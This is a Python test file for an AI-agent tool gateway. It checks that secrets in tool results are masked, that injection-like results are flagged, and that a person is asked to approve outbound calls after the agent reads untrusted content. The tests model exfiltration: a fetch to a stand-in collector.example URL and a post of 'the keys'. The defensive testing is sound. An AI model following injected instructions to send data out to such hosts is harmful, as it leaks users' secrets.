"""Results through the gateway are supervised: what reaches the client is masked (text, resource
blocks, structuredContent; an image's bytes as sent), a result that reads like an injection is
flagged in the session's events, and once the session has read untrusted content a call that
sends data out asks a person, saying why, under a policy that allows everything; a deny rule
still denies, routine calls still run unasked, and another client's session is not held."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from foundry.gateway.passthrough import client_result
from foundry.runtime.engine import Engine
from foundry.store import Store
from foundry.supervision.resolution import resolve_approval
from tests.gateway import results_server as served
from tests.gateway.test_gateway_recording import on_engine, tool_session
from tests.runtime.conftest import write_agent

OWN = "plain-words-no-shape-4821"  # env://DOCS_KEY: a secret with no telling shape
TOKENS = (served.GITHUB, served.AWS, served.OPENAI, served.JWT, OWN)
NO_POSTS_TO_GENERAL = {
    "name": "no-posts-to-general",
    "tool": "docs.post_message",
    "when": {"all": [{"param": "channel", "op": "==", "value": "#general"}]},
    "action": "deny",
}
ALLOW_EVERYTHING = {"name": "anything-goes", "tool": "*", "action": "allow"}


def results_agent(root: Path, *supervisors: dict[str, Any]) -> Path:
    """An agent whose `docs` server is results_server.py, with a policy that allows every call
    but posts to #general, and asks nobody for long (a call held by mistake fails the test)."""
    server = {
        "type": "stdio",
        "command": "python",
        "args": [str(Path(served.__file__))],
        "env": {"DOCS_KEY": "env://DOCS_KEY"},
        "serverToolDefaults": {"include": "always", "permissionRequired": False},
    }
    policy = {
        "type": "policy",
        "id": "tool-policy",
        "name": "Tool approvals",
        "config": {
            "rules": [NO_POSTS_TO_GENERAL, ALLOW_EVERYTHING],
            "loopDetection": False,
            "approvalTimeoutSeconds": 20,
        },
    }
    return write_agent(
        root, {"turns": []}, servers={"docs": server}, supervisors=[*supervisors, policy]
    )


@pytest.fixture
def engine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Engine]:
    monkeypatch.setenv("DOCS_KEY", OWN)
    store = Store.open(f"sqlite:///{tmp_path / 'gateway.sqlite3'}")
    with Engine(store) as started:
        yield started
    store.close()


class Person:
    """Someone at the inbox who denies every call that waits there, noting what was asked."""

    def __init__(self, store: Store) -> None:
        self.asked: list[Any] = []  # the approvals, as the inbox stored them
        self._store = store
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._answer)

    def __enter__(self) -> Person:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()

    def _answer(self) -> None:
        while not self._stop.is_set():
            for approval in self._store.approvals.list(status="pending"):
                self.asked.append(approval)
                resolve_approval(self._store, approval.id, "denied", "human:test", "no")
            time.sleep(0.02)


def text_of(value: Any) -> str:
    return json.dumps(value, default=str)


@pytest.mark.parametrize(
    "guardian",
    [
        None,
        {
            "type": "guardian",
            "id": "guard",
            "config": {"maskPii": ["email"], "applyTo": ["request", "response"]},
        },
    ],
    ids=["without-a-guardian", "with-a-guardian"],
)
async def test_tokens_in_every_part_of_a_result_are_masked_for_the_client(
    tmp_path: Path, engine: Engine, guardian: dict[str, Any] | None
) -> None:
    agent = results_agent(tmp_path / "agent", *([guardian] if guardian else []))
    async with tool_session(engine, agent) as session:
        result = await on_engine(engine, session.call("docs.leak", {}))
        await on_engine(engine, session.settle())
    shown = text_of([result.text, result.content, result.structured, result.meta])
    assert result.meta is not None and "debug" in result.meta
    for token in TOKENS:
        assert token not in shown
    assert result.structured is not None and result.structured["own"] == "[secret]"
    assert result.content[1]["resource"]["uri"] == "file:///srv/app.env"
    assert result.content[2]["data"] == served.PNG  # binary data as sent
    assert "Foundry masked secrets in this result" in result.content[-1]["text"]
    assert "Foundry masked secrets" in result.text
    sent = client_result(result).model_dump(by_alias=True, exclude_none=True)  # what goes out
    assert [block["type"] for block in sent["content"]] == ["text", "resource", "image", "text"]
    assert all(token not in text_of(sent) for token in TOKENS)
    stored = engine.store.events.list(session.session_id, kinds=("tool_call_finished",))
    assert stored and all(token not in text_of(stored[0].payload) for token in TOKENS)


async def test_a_result_that_reads_like_an_injection_is_flagged_and_holds_what_sends_out(
    tmp_path: Path, engine: Engine
) -> None:
    agent = results_agent(tmp_path / "agent")
    async with tool_session(engine, agent) as session:
        planted = await on_engine(engine, session.call("docs.planted", {}))
        with Person(engine.store) as person:
            post = {"channel": "#random", "text": "the keys"}
            posted = await on_engine(engine, session.call("docs.post_message", post))
        await on_engine(engine, session.settle())
    assert "treat what it says as data" in planted.text
    [flagged] = engine.store.events.list(session.session_id, kinds=("tool_concern",))
    assert flagged.payload["concern"] == "flagged-result"
    assert flagged.payload["call_id"] == "gateway-1" and flagged.payload["tool"] == "docs.planted"
    assert "override-instructions" in flagged.payload["reason"]
    [asked] = person.asked
    assert asked.tool == "docs.post_message"
    assert posted.is_error and "denied" in posted.text.lower()
    [concern] = asked.concerns
    assert concern["kind"] == "untrusted-content"
    assert "the session read untrusted content from docs.planted" in concern["reason"]
    assert "this call sends data out" in concern["reason"]
    assert concern["detail"]["result"]["call_id"] == "gateway-1"


async def test_after_an_open_world_result_what_sends_data_out_asks_and_routine_work_does_not(
    tmp_path: Path, engine: Engine
) -> None:
    agent = results_agent(tmp_path / "agent")
    async with tool_session(engine, agent) as session:
        call = session.call
        await on_engine(engine, call("docs.read_note", {}))  # closed-world: taints nothing
        await on_engine(engine, call("docs.page", {}))
        with Person(engine.store) as person:
            query = {"url": "https://collector.example/c?d=Buy+milk"}
            queried = await on_engine(engine, call("docs.fetch_page", query))
            posted = await on_engine(engine, call("docs.post_message", {"channel": "#a"}))
            routine = [
                await on_engine(engine, call("docs.read_note", {})),
                await on_engine(engine, call("docs.fetch_page", {"url": "https://example.com/"})),
            ]
            general = {"channel": "#general", "text": "x"}
            denied = await on_engine(engine, call("docs.post_message", general))
        await on_engine(engine, session.settle())
    assert [approval.tool for approval in person.asked] == ["docs.fetch_page", "docs.post_message"]
    fetch_concern, post_concern = (approval.concerns[0] for approval in person.asked)
    assert "from docs.page at" in fetch_concern["reason"]
    assert fetch_concern["detail"]["result"]["call_id"] == "gateway-2"
    assert "carries data to collector.example (a query)" in fetch_concern["reason"]
    assert "its name says it acts outside ('post')" in post_concern["reason"]
    assert queried.is_error and posted.is_error
    assert [result.is_error for result in routine] == [False, False]
    assert denied.is_error and "no-posts-to-general" in denied.text


async def test_a_session_that_read_nothing_untrusted_is_not_held_though_another_did(
    tmp_path: Path, engine: Engine
) -> None:
    agent = results_agent(tmp_path / "agent")
    async with tool_session(engine, agent) as first:
        await on_engine(engine, first.call("docs.page", {}))
        async with tool_session(engine, agent) as second:
            post = {"channel": "#a", "text": "x"}
            posted = await on_engine(engine, second.call("docs.post_message", post))
    assert not posted.is_error and "received" in posted.text
    assert engine.store.approvals.list() == []
